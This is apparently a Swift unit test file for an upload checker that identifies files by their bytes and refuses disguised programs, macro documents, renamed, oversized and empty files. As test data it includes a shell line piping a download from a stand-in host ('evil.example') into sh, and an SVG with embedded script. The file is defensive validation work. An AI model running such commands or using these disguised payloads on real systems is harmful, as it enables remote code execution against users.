import Foundation
import XCTest

@testable import SaferCyberCore

/// Resource-library uploads are judged by their bytes: a program or script is refused whatever it is called.
final class UploadCheckTests: XCTestCase {
    func bytes(_ prefix: [UInt8], padding: Int = 64) -> [UInt8] { prefix + Array(repeating: 0x20, count: padding) }
    func text(_ s: String) -> [UInt8] { Array(s.utf8) }

    func testRealFilesAreRecognised() {
        let cases: [([UInt8], String, UploadCheck.Kind)] = [
            (text("%PDF-1.7\n..."), "leaflet.pdf", .pdf),
            (bytes([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]), "poster.PNG", .png),
            (bytes([0xFF, 0xD8, 0xFF, 0xE0]), "photo.jpeg", .jpeg),
            (text("GIF89a...."), "animation.gif", .gif),
            (text("RIFF\u{0}\u{0}\u{0}\u{0}WEBPVP8 "), "image.webp", .webp),
            ([0, 0, 0, 0x20] + text("ftypisom") + bytes([], padding: 32), "awareness-video.mp4", .mp4),
            (bytes([0x1A, 0x45, 0xDF, 0xA3]), "clip.webm", .webm),
            (text("ID3\u{4}..."), "podcast.mp3", .mp3),
            ([0x50, 0x4B, 0x03, 0x04] + text("...[Content_Types].xml...word/document.xml"), "lesson-plan.docx", .docx),
            ([0x50, 0x4B, 0x03, 0x04] + text("...[Content_Types].xml...ppt/slides/slide1.xml"), "talk.pptx", .pptx),
            (text("WEBVTT\n\n00:00.000 --> 00:04.000\nNever share your PIN.\n"), "transcript.vtt", .text),
        ]
        for (data, name, kind) in cases {
            XCTAssertEqual(try? UploadCheck.check(data, fileName: name).get(), kind, name)
        }
    }

    func testDisguisedProgramsAreRefusedWhateverTheirName() {
        let cases: [([UInt8], String, String)] = [
            (text("MZ\u{90}\u{0}This program cannot be run in DOS mode"), "poster.pdf", "a Windows program"),
            (bytes([0x7F, 0x45, 0x4C, 0x46, 0x02, 0x01]), "awareness-video.mp4", "a Linux program"),
            (text("#!/bin/sh\ncurl http://evil.example | sh\n"), "transcript.txt", "a script"),
            (bytes([0xCA, 0xFE, 0xBA, 0xBE]), "image.png", "a Mac or Java program"),
            (bytes([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]), "leaflet.doc", "an old-style Office file"),
            (
                text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"), "logo.svg",
                "a web page or SVG"
            ),
            (text("<!DOCTYPE html><html><body>Win a prize</body></html>"), "notes.txt", "a web page or SVG"),
        ]
        for (data, name, why) in cases {
            guard case .failure(let refused) = UploadCheck.check(data, fileName: name) else {
                XCTFail("accepted \(name)")
                continue
            }
            XCTAssertTrue(refused.description.contains(why), "\(name): \(refused.description)")
        }
    }

    func testMacrosMismatchedNamesSizesAndUnknownsAreRefused() {
        let macro = [0x50, 0x4B, 0x03, 0x04] + text("[Content_Types].xml word/document.xml word/vbaProject.bin")
        XCTAssertEqual(
            UploadCheck.check(macro, fileName: "letter.docx"),
            .failure(
                .init(
                    description:
                        "This document contains macros (small programs), so it cannot be shared. Save it without macros and upload it again."
                )))
        guard
            case .failure(let renamed) = UploadCheck.check(
                bytes([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]), fileName: "leaflet.pdf")
        else { return XCTFail() }
        XCTAssertEqual(
            renamed.description,
            "The file's name ends .pdf but it is a PNG image. Rename it to end .png or choose the right file.")
        guard
            case .failure(let big) = UploadCheck.check(
                text("%PDF-") + Array(repeating: 0x20, count: 20_000_001), fileName: "big.pdf")
        else { return XCTFail() }
        XCTAssertTrue(big.description.contains("at most 20 MB"))
        XCTAssertEqual(UploadCheck.check([], fileName: "empty.pdf"), .failure(.init(description: "The file is empty.")))
        guard case .failure = UploadCheck.check([0x00, 0x01, 0x02, 0xFF, 0xFE], fileName: "data.bin") else {
            return XCTFail("accepted unknown bytes")
        }
    }
}
